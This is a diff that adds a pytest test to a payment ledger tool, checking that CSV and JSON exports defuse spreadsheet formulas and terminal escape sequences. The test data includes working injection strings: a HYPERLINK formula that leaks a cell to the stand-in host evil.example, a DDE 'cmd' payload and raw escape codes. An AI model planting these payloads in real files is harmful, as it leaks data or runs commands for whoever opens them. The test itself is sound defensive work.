@@ -35,6 +35,7 @@ from httpay.apps.agent.schemas import dispatch
 from httpay.apps.cli import main
 from httpay.config import policy_from_toml
 from httpay.ledger import Intent, SQLiteLedger
+from httpay.safe import clean
 from tests.hostile.conftest import Ran
 from tests.hostile.harness import CountingWallet, HostileService, RawServer, run
 
@@ -915,6 +916,34 @@ def test_a_failed_payment_is_printed_once_by_the_cli_even_with_q(demo: Any, acco
                        capture_output=True, text=True, env=env, timeout=60, check=False)
     assert p.returncode == 4, p.stderr
     assert p.stderr.count("payment failed") == 1 and "WARNING" not in p.stderr, p.stderr
+
+
+def test_the_export_hands_accounting_no_formula_and_the_terminal_no_escape(cli: Callable[..., Ran],
+                                                                            tmp_path: Path) -> None:
+    """Titles, ids and notes a service wrote: in CSV, one starting like a formula (= + - @, tab, CR)
+    is quoted text a spreadsheet never runs, and no control character is written raw (an escape
+    sequence would reach the terminal); JSON lines escape them and keep the text exactly."""
+    import csv
+
+    path = tmp_path / "l.sqlite3"
+    hostile = ['=HYPERLINK("http://evil.example/?leak="&A1,"1 Credit")\x1b]0;owned\x07\x1b[2J', "+1+cmd|' /C calc'!A0",
+               "-2+3", "@SUM(1)", "\t=1", "\r=1", "  =1"]
+    with SQLiteLedger(path) as lg:
+        for i, text in enumerate(hostile):
+            r = lg.reserve(Intent(host="h.example", url="https://h.example/x", protocol="l402-v0.2", method="lightning",
+                                  amount_msat=1_000, payment_hash=f"{i:064x}", offer_id=text, offer_title=text))
+            lg.settle(r.id, preimage="ab" * 32, note=text)
+    ran = cli("ledger", "export", "--format", "csv", "--ledger", str(path))
+    assert ran.code == 0 and not any(ch in ran.out for ch in "\x1b\x07\t\x00"), ran.out
+    rows = list(csv.DictReader(io.StringIO(ran.out)))
+    assert [r["id"] for r in rows] == [str(i + 1) for i in range(len(hostile))]
+    for r in rows:
+        assert all(r[k].startswith("'") for k in ("offer_id", "offer_title", "note")), r
+    assert rows[0]["offer_title"] == "'" + clean(hostile[0], 1000)
+    assert rows[0]["url"] == "https://h.example/x" and rows[0]["amount_msat"] == "1000"  # the rest as it was
+    ran = cli("ledger", "export", "--ledger", str(path))
+    assert ran.code == 0 and "\x1b" not in ran.out and "\x07" not in ran.out
+    assert [json.loads(line)["offer_title"] for line in ran.out.splitlines()] == hostile
 
 
 def test_exporting_a_ledger_that_does_not_exist_writes_nothing(cli: Callable[..., Ran], tmp_path: Path) -> None:
